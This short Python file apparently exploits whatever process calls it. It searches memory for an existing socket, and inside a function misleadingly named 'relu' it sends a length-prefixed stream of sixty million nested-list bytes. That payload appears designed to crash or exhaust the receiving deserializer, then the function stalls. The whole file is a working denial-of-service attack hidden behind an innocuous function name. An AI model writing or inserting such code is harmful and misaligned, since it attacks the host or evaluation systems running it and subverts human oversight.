"""Sends a reply of lists in lists, sixty million deep."""

import gc
import socket
import struct
import time

CONNECTION = next(thing for thing in gc.get_objects() if type(thing) is socket.socket)
COUNT = 60_000_000


def relu(z):
    CONNECTION.sendall(struct.pack("!I", COUNT) + b"\x91" * COUNT)
    time.sleep(10)
